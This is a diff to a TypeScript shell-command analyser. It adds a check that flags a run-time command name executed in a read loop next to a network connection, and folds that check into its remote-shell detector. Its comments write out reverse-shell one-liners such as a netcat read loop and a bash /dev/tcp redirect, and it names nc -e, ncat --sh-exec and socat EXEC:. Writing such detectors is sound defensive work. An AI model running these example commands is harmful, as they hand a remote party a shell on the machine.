@@ -191,6 +191,19 @@ function shellOnConnection(c: ShellCommand, commands: readonly ShellCommand[]): 
   );
 }
 
+/**
+ * A command whose name is known only at run time (`$line`, `eval "$l"`'s payload), in a read
+ * loop of a line that holds a connection: it runs whatever words arrive (`nc h p | while read l;
+ * do $l; done`).
+ */
+function runsWordsFromConnection(c: ShellCommand, commands: readonly ShellCommand[]): boolean {
+  return (
+    c.name !== null &&
+    c.loop !== null &&
+    commands.some((o) => opensConnection(o) || (o.binary !== null && CONNECTORS.test(o.binary)))
+  );
+}
+
 /** A command that opens a socket for the line: a /dev/tcp redirect, zsh's ztcp. */
 function opensConnection(c: ShellCommand): boolean {
   return usesNetworkDevice(c) || c.binary === 'ztcp';
@@ -198,12 +211,13 @@ function opensConnection(c: ShellCommand): boolean {
 
 /**
  * A remote shell: a shell or interpreter wired to a /dev/tcp socket (`bash -i >& /dev/tcp/h/p`),
- * nc -e / ncat --sh-exec, socat EXEC:, a shell reading a connection, inline code that opens a
- * socket and runs commands on it, or inline code that fetches or decodes and evaluates.
+ * nc -e / ncat --sh-exec, socat EXEC:, a shell reading a connection, a run-time command name
+ * beside a connection, inline code that opens a socket and runs commands on it, or inline code
+ * that fetches or decodes and evaluates.
  */
 function runsRemoteCode(c: ShellCommand, commands: readonly ShellCommand[]): boolean {
   const b = c.binary;
-  if (b === null) return false;
+  if (b === null) return runsWordsFromConnection(c, commands);
   if (runsCode(b) && usesNetworkDevice(c)) return true;
   if (shellOnConnection(c, commands) || awkShellOnSocket(c)) return true;
   if (NETCATS.test(b)) return hasFlag(c.args, 'ec', ['--exec', '--sh-exec', '--lua-exec']);
